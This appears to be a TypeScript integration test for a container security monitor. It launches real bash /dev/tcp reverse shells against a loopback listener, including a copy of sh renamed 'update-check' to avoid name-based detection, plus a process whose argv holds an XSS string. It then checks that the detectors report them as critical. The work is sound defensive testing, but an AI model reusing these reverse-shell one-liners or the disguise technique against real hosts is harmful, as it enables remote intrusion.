/**
 * The reverse-shell behaviour done for real on this host (no container):
 * a TCP listener on 127.0.0.1, a bash /dev/tcp reverse shell and a copy of sh
 * renamed `update-check` connected to it, all inside a cgroup this test makes
 * (cgroup v1 pids controller here; v2 unified otherwise), collected from the
 * host exactly as the guard will collect a container, and judged by the
 * detectors. Only loopback is ever connected to.
 */
import { strict as assert } from 'node:assert';
import { ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import { ProcessCollector } from '../../helper/guard/monitor/collector';
import { runDetectors, ThreatEvent } from '../../helper/guard/monitor/detectors';
import type { Snapshot } from '../../helper/guard/monitor/model';

const tag = `coi-test-${randomBytes(4).toString('hex')}`;
let cgroupDir: string | undefined;
let tmp = '';
let server: net.Server;
let port = 0;
const accepted: net.Socket[] = [];
const children: ChildProcess[] = [];
const pidFile = () => path.join(tmp, 'pids');

/** A cgroup of our own: v1 pids controller (this host), else the v2 root; undefined when neither works. */
function makeCgroup(): string | undefined {
  for (const base of ['/sys/fs/cgroup/pids', '/sys/fs/cgroup']) {
    if (!fs.existsSync(path.join(base, 'cgroup.procs'))) continue;
    const dir = path.join(base, tag);
    try {
      fs.mkdirSync(dir);
      return dir;
    } catch {
      // not root, or a read-only hierarchy: try the next, else fall back to pids
    }
  }
  return undefined;
}

/**
 * Starts `script` under sh with its own process group, joined to our cgroup
 * before anything else runs (so every descendant is born inside it), and
 * records its pid when no cgroup could be made.
 */
function start(script: string): ChildProcess {
  const join = cgroupDir ? `echo $$ > ${cgroupDir}/cgroup.procs || exit 97; ` : `echo $$ >> ${pidFile()}; `;
  const c = spawn('/bin/sh', ['-c', `${join}${script}`], { detached: true, stdio: 'ignore' });
  children.push(c);
  return c;
}

function waitFor<T>(what: string, f: () => T | undefined, timeoutMs = 5000, everyMs = 50): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  return new Promise((resolve, reject) => {
    const tick = () => {
      const v = f();
      if (v !== undefined) return resolve(v);
      if (Date.now() > deadline) return reject(new Error(`timed out waiting for ${what}`));
      setTimeout(tick, everyMs);
    };
    tick();
  });
}

before(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'coi-monitor-'));
  cgroupDir = makeCgroup();
  server = net.createServer((s) => {
    s.on('error', () => undefined);
    accepted.push(s);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  port = (server.address() as net.AddressInfo).port;
  // A renamed copy of the system's sh: nothing in its name says "shell".
  fs.copyFileSync(fs.realpathSync('/bin/sh'), path.join(tmp, 'update-check'));
  fs.chmodSync(path.join(tmp, 'update-check'), 0o755);
});

after(async () => {
  for (const s of accepted) s.destroy();
  for (const c of children) {
    // Each child leads its own process group: kill exactly that group.
    if (c.pid) {
      try {
        process.kill(-c.pid, 'SIGKILL');
      } catch {
        // already gone
      }
    }
  }
  await new Promise<void>((r) => server.close(() => r()));
  if (cgroupDir) {
    const dir = cgroupDir;
    // rmdir succeeds once the last member has been reaped.
    await waitFor('cgroup to empty', () => {
      try {
        fs.rmdirSync(dir);
        return true;
      } catch {
        return undefined;
      }
    }).catch((e: unknown) => console.error(`could not remove ${dir}: ${String(e)}`));
  }
  fs.rmSync(tmp, { recursive: true, force: true });
});

function collector(): ProcessCollector {
  return cgroupDir
    ? new ProcessCollector({ container: tag, cgroupDirs: [cgroupDir] })
    : new ProcessCollector({
        container: tag,
        pids: () => {
          // No cgroup: our recorded pids and their descendants, walked in /proc.
          const roots = fs.existsSync(pidFile()) ? fs.readFileSync(pidFile(), 'utf8').split('\n').filter(Boolean).map(Number) : [];
          const parent = new Map<number, number>();
          for (const d of fs.readdirSync('/proc')) {
            if (!/^\d+$/.test(d)) continue;
            try {
              const st = fs.readFileSync(`/proc/${d}/stat`, 'utf8');
              parent.set(Number(d), Number(st.slice(st.lastIndexOf(')') + 2).split(' ')[1]));
            } catch {
              // exited
            }
          }
          const set = new Set(roots);
          for (let grew = true; grew; ) {
            grew = false;
            for (const [p, pp] of parent) if (set.has(pp) && !set.has(p)) (set.add(p), (grew = true));
          }
          return [...set];
        },
      });
}

const critical = (events: ThreatEvent[]) => events.filter((e) => e.level === 'critical' && e.category === 'reverse_shell');

test('a bash /dev/tcp reverse shell and a renamed copy of sh are seen from the host and judged CRITICAL with the remote address and the process chain', async () => {
  const dev = `/dev/tcp/127.0.0.1/${port}`;
  // 1. The classic: bash opens the socket, then an interactive sh takes it as stdio.
  //    The outer sh waits (`; :`) so the chain has a parent in the cgroup.
  start(`bash -c 'exec 3<>${dev}; exec sh -i <&3 >&3 2>&3'; :`);
  // 2. A copy of sh named update-check, no -i, nothing telling in argv.
  start(`bash -c 'exec 3<>${dev}; exec ${path.join(tmp, 'update-check')} <&3 >&3 2>&3'; :`);
  // 3. Hostile strings in argv: invalid UTF-8, an ANSI escape, HTML.
  start(`exec bash -c 'exec -a "$(printf "x\\377\\033[31m<img src=x onerror=alert(1)>")" sleep 60'`);
  await waitFor('two reverse-shell connections', () => (accepted.length >= 2 ? true : undefined));
  // Make the shells run a command, so a child with the same stdio is in the chain too.
  for (const s of accepted) s.write('sleep 60\n');

  const c = collector();
  const t0 = performance.now();
  let snap: Snapshot | undefined;
  let events: ThreatEvent[] = [];
  let firstCritical = -1;
  await waitFor(
    'both shells judged critical',
    () => {
      snap = c.collect();
      events = runDetectors(snap, undefined, {});
      if (firstCritical < 0 && critical(events).length) firstCritical = performance.now() - t0;
      const remotes = critical(events).filter((e) => e.evidence.network?.remote === '127.0.0.1' && e.evidence.network.port === port);
      const comms = new Set(remotes.map((e) => e.evidence.process?.comm));
      const sleeps = remotes.filter((e) => e.evidence.process?.comm === 'sleep').length;
      return comms.has('sh') && comms.has('update-check') && sleeps >= 2 ? true : undefined;
    },
    10_000,
    100,
  );
  assert.ok(snap);

  const sh = critical(events).find((e) => e.evidence.process?.comm === 'sh');
  assert.ok(sh, 'the interactive sh is reported');
  assert.equal(sh.evidence.rule, 'reverse-shell/shell-stdio-network');
  assert.equal(sh.evidence.network?.proto, 'tcp');
  assert.deepEqual(sh.evidence.network?.fds, [0, 1, 2]);
  assert.match(sh.description, new RegExp(`127\\.0\\.0\\.1:${port}`));
  // The chain: sh -i (was bash) ← the waiting outer sh.
  const chain = sh.evidence.process?.lineage ?? [];
  assert.ok(chain.length >= 2, `lineage has the parent: ${JSON.stringify(chain)}`);
  assert.equal(chain[0]?.pid, sh.evidence.process?.pid);
  assert.equal(chain[1]?.comm, 'sh');
  assert.ok(chain[1]?.argv.join(' ').includes('/dev/tcp/127.0.0.1'), 'the parent shows how the socket was made');

  const renamed = critical(events).find((e) => e.evidence.process?.comm === 'update-check');
  assert.ok(renamed, 'the renamed sh is reported by behaviour');
  assert.equal(renamed.evidence.rule, 'reverse-shell/stdio-redirected-network');
  assert.ok(renamed.evidence.process?.exe?.endsWith('/update-check'));
  assert.equal(renamed.evidence.network?.remote, '127.0.0.1');
  assert.equal(renamed.evidence.network?.port, port);

  for (const shell of [sh, renamed]) {
    const child = critical(events).find((e) => e.evidence.process?.comm === 'sleep' && e.evidence.process.lineage[1]?.pid === shell.evidence.process?.pid);
    assert.ok(child, `the command ${shell.evidence.process?.comm} runs is reported, with the shell in its chain`);
  }

  // The /dev/tcp command line is the second layer and is seen too.
  assert.ok(events.some((e) => e.evidence.rule === 'reverse-shell/one-liner/dev-tcp'), 'the /dev/tcp one-liner in the parent is matched');

  // Hostile argv survives as data.
  const hostile = [...snap.processes.values()].find((p) => (p.argv[0] ?? '').includes('<img'));
  assert.ok(hostile, 'the process with a hostile argv[0] is collected');
  assert.equal(hostile.argv[0], 'x\ufffd\x1b[31m<img src=x onerror=alert(1)>');

  // Cost, for the report: cold (first sight of everything) and warm polls.
  const cold = new ProcessCollector(cgroupDir ? { container: tag, cgroupDirs: [cgroupDir] } : { container: tag, pids: () => [...snap!.processes.keys()] });
  const tc = performance.now();
  cold.collect();
  const coldMs = performance.now() - tc;
  const tw = performance.now();
  const n = 40;
  for (let i = 0; i < n; i++) cold.collect();
  const warmMs = (performance.now() - tw) / n;
  const cpu0 = process.cpuUsage();
  for (let i = 0; i < n; i++) cold.collect();
  const cpu = process.cpuUsage(cpu0);
  console.log(
    `# collector: ${snap.processes.size} processes via ${cgroupDir ?? 'pid list'}; first critical after ${firstCritical.toFixed(1)} ms; ` +
      `cold poll ${coldMs.toFixed(2)} ms, warm poll ${warmMs.toFixed(2)} ms wall, ${((cpu.user + cpu.system) / 1000 / n).toFixed(2)} ms CPU`,
  );
});
